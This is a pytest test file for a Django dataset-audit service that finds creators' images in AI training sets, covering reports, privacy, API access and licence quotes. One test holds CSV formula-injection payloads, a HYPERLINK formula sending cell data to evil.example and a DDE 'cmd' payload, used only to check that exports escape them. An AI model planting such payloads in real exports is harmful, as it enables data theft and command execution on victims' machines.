"""Audit pages, exports and the API: upload, report, evidence, privacy, limits; what creators see."""

import csv
import hashlib
import io
import json
from dataclasses import replace

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from audits.models import Audit, AuditMatch
from audits.synthetic import edited, encode, picture, write_shard
from core.models import Notification

pytestmark = pytest.mark.django_db


@pytest.fixture
def found(publish, creator):
    work, data = publish(creator, picture(400), title="Heron at dusk")
    return work, data


def _files(tmp_path, found):
    work, data = found
    manifest = SimpleUploadedFile(
        "set.csv", f"url,sha256\nhttps://x.example/a.jpg,{hashlib.sha256(data).hexdigest()}\n".encode()
    )
    shard = tmp_path / "00000.tar"
    write_shard(
        shard, [{"key": "k1", "data": encode(edited(Image.open(io.BytesIO(data)), "mirrored", 1), "JPEG")}]
    )
    return [manifest, SimpleUploadedFile("00000.tar", shard.read_bytes())]


def test_an_uploaded_audit_reports_matches_with_evidence_and_exports(
    client, ai_company, found, tmp_path, outsider
):
    client.force_login(ai_company.user)
    response = client.post(
        "/audits/", {"name": "LAION-mini", "files": _files(tmp_path, found), "sample": "100"}
    )
    audit = Audit.objects.get()
    assert response.status_code == 302 and response["Location"] == audit.get_absolute_url()
    assert audit.status == "done" and audit.via == "browser"
    page = client.get(audit.get_absolute_url()).content.decode()
    assert "Heron at dusk" in page and 'data-kind="pdq"' in page and 'data-kind="sha256"' in page
    near = AuditMatch.objects.get(audit=audit, kind="pdq")
    evidence = client.get(f"/audits/{audit.token}/evidence/{near.pk}.jpg")
    assert evidence.status_code == 200 and evidence["Content-Type"] == "image/jpeg"
    rows = list(
        csv.DictReader(
            io.StringIO(b"".join(client.get(f"/audits/{audit.token}/report.csv").streaming_content).decode())
        )
    )
    assert {(r["kind"], r["file"], r["key"]) for r in rows} == {
        ("sha256", "set.csv", ""),
        ("pdq", "00000.tar", "k1"),
    }
    body = json.loads(client.get(f"/audits/{audit.token}/report.json").content)
    assert body["rows_scanned"] == 2 and body["images_hashed"] == 1 and len(body["matches"]) == 2
    # private: another person gets 404 for the page, the evidence, the exports
    client.force_login(outsider.user)
    for path in ("/", f"/evidence/{near.pk}.jpg", "/report.csv", "/report.json", "/progress"):
        assert client.get(f"/audits/{audit.token}{path}").status_code == 404


def test_uploads_are_limited_and_checked(client, ai_company, settings, found, tmp_path):
    client.force_login(ai_company.user)
    settings.AUDIT_UPLOAD_MAX_BYTES = 1000
    response = client.post("/audits/", {"name": "big", "files": _files(tmp_path, found)})
    assert response.status_code == 413 and "the limit is 1000 bytes" in response.content.decode()
    settings.AUDIT_UPLOAD_MAX_BYTES = 10**9
    response = client.post("/audits/", {"name": "odd", "files": [SimpleUploadedFile("notes.txt", b"x")]})
    assert (
        response.status_code == 400
        and "not a .parquet or .csv manifest nor a .tar shard" in response.content.decode()
    )
    response = client.post("/audits/", {"name": "", "files": _files(tmp_path, found)})
    assert response.status_code == 400 and not Audit.objects.exists()


def test_creators_see_where_their_work_was_found_and_are_told(
    client, ai_company, org, creator, found, tmp_path
):
    client.force_login(ai_company.user)
    client.post(
        "/audits/",
        {"name": "Acme crawl", "files": _files(tmp_path, found), "org": str(org.pk), "sample": "100"},
    )
    client.post(
        "/audits/",
        {
            "name": "Open crawl",
            "files": _files(tmp_path, found),
            "org": str(org.pk),
            "sample": "100",
            "reveal_auditor": "on",
        },
    )
    assert Notification.objects.filter(user=creator.user, kind="found_in_dataset").count() == 2
    client.force_login(creator.user)
    section = client.get("/dashboard/").content.decode().split('data-testid="found-in-datasets"')[1]
    assert "Acme crawl" in section and "Open crawl" in section
    assert section.count("Acme AI") == 1 and "not disclosed" in section  # named only where allowed
    assert "set.csv" in section and "00000.tar" in section


def test_the_api_takes_uploads_and_keeps_audits_to_their_organisation(
    client, api_key, rival_org, found, tmp_path
):
    key = api_key("read")
    response = client.post(
        "/api/v1/audits",
        {"name": "via api", "sample": "1", "files": _files(tmp_path, found)},
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )
    assert response.status_code == 202, response.content
    token = response.json()["id"]
    status = client.get(f"/api/v1/audits/{token}", HTTP_AUTHORIZATION=f"Bearer {key}").json()
    assert status["status"] == "done" and status["matches"] == 2
    matches = client.get(f"/api/v1/audits/{token}/matches?limit=1", HTTP_AUTHORIZATION=f"Bearer {key}").json()
    assert len(matches["matches"]) == 1 and matches["next_after"] is not None
    rival = api_key("read", organisation=rival_org)
    assert client.get(f"/api/v1/audits/{token}", HTTP_AUTHORIZATION=f"Bearer {rival}").status_code == 404
    bad = client.post(
        "/api/v1/audits",
        {"name": "bad", "files": [SimpleUploadedFile("x.exe", b"MZ")]},
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )
    assert bad.status_code == 422 and bad.json()["error"] == "invalid_audit"


@pytest.mark.anvil
def test_an_organisation_quotes_every_unlicensed_paid_match_in_one_go(
    client, chain, ai_company, org, publish, creator, tmp_path
):
    from licensing import services as licensing
    from licensing.terms import PRESETS

    paid = [publish(creator, picture(450 + i), title=f"paid {i}") for i in range(2)]
    banned, _ = publish(creator, picture(460), title="no AI")
    for work, _ in paid:
        licensing.offer_create(work=work, terms=PRESETS["ai_training"][1], preset="ai_training")
    licensing.offer_create(work=banned, terms=PRESETS["commercial_use"][1], preset="commercial_use")
    in_dollars, _ = publish(creator, picture(470), title="paid in tUSDC")
    usd_terms = replace(
        PRESETS["ai_training"][1],
        currency="tUSDC",
        fee_wei=20_000_000,
        ai_training_price_wei=3_000_000,
        genai_training_price_wei=5_000_000,
    )
    licensing.offer_create(work=in_dollars, terms=usd_terms, preset="ai_training")
    rows = "".join(f"https://x.example/{w.pk}.jpg,{hashlib.sha256(d).hexdigest()}\n" for w, d in paid)
    rows += f"https://x.example/b.jpg,{banned.sha256}\nhttps://x.example/u.jpg,{in_dollars.sha256}\n"
    client.force_login(ai_company.user)
    client.post(
        "/audits/",
        {
            "name": "crawl",
            "files": [SimpleUploadedFile("m.csv", ("url,sha256\n" + rows).encode())],
            "org": str(org.pk),
        },
    )
    audit = Audit.objects.get()
    page = client.get(audit.get_absolute_url()).content.decode()
    assert (
        "Quote a training licence for the 2 unlicensed works" in page and "Remove before training" in page
    ), (
        audit.status,
        list(audit.parts.values_list("status", "error")),
    )
    response = client.post(f"/audits/{audit.token}/quote")
    assert response.status_code == 302 and f"/orgs/{org.slug}/quotes/0x" in response["Location"]
    quote = client.get(response["Location"])
    assert quote.status_code == 200 and quote.context["settlement"].price_wei == 2 * 5 * 10**15
    assert quote.context["can_pay"]  # the admin's wallet is the organisation's paying wallet
    tx = client.get(response["Location"] + "tx").json()["tx"]
    assert tx["from"] == ai_company.address and int(tx["value"], 16) == 2 * 5 * 10**15

    # the work priced in the stablecoin has its own quote, paid with a permit and one transaction
    assert "Quote a training licence for the 1 unlicensed work priced in tUSDC" in page
    response = client.post(f"/audits/{audit.token}/quote", {"currency": "tUSDC"})
    quote = client.get(response["Location"])
    settlement = quote.context["settlement"]
    assert settlement.currency == "tUSDC" and settlement.price_wei == 3_000_000
    assert "3 tUSDC" in quote.content.decode() and 'data-testid="permit-note"' in quote.content.decode()
    prepared = client.get(response["Location"] + "tx").json()
    assert prepared["permit"]["message"]["value"] == 3_000_000 and prepared["permitUrl"].endswith("/permit")


def test_the_report_csv_never_writes_a_formula_from_the_dataset(client, ai_company, found, tmp_path):
    """A manifest row's url (or a shard's .json) is the dataset's text: written as text."""
    work, data = found
    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    manifest = io.StringIO()
    writer = csv.writer(manifest)
    writer.writerow(["url", "sha256"])
    writer.writerow([evil, hashlib.sha256(data).hexdigest()])
    shard = tmp_path / "00001.tar"
    write_shard(shard, [{"key": "-k2", "data": data, "url": "+cmd|' /C calc'!A0"}])
    client.force_login(ai_company.user)
    client.post(
        "/audits/",
        {
            "name": "Hostile set",
            "files": [
                SimpleUploadedFile("set.csv", manifest.getvalue().encode()),
                SimpleUploadedFile("00001.tar", shard.read_bytes()),
            ],
            "sample": "100",
        },
    )
    audit = Audit.objects.get()
    body = b"".join(client.get(f"/audits/{audit.token}/report.csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    urls = {r["file"]: r["url"] for r in rows}
    assert urls["set.csv"] == "'" + evil
    assert urls["00001.tar"] == "'+cmd|' /C calc'!A0"
    assert {r["key"] for r in rows} == {"", "'-k2"}
    assert all(not v or v[0] not in "=+-@\t\r" for r in rows for v in r.values())


def test_a_disk_that_cannot_be_written_is_not_called_a_chain_outage(
    client, api_key, found, tmp_path, settings
):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the audit folder should be")
    settings.AUDIT_ROOT = blocker
    response = client.post(
        "/api/v1/audits",
        {"name": "disk", "files": _files(tmp_path, found)},
        HTTP_AUTHORIZATION=f"Bearer {api_key('read')}",
    )
    assert response.status_code == 503 and response.json()["error"] == "storage_unavailable"
    assert not Audit.objects.exists()
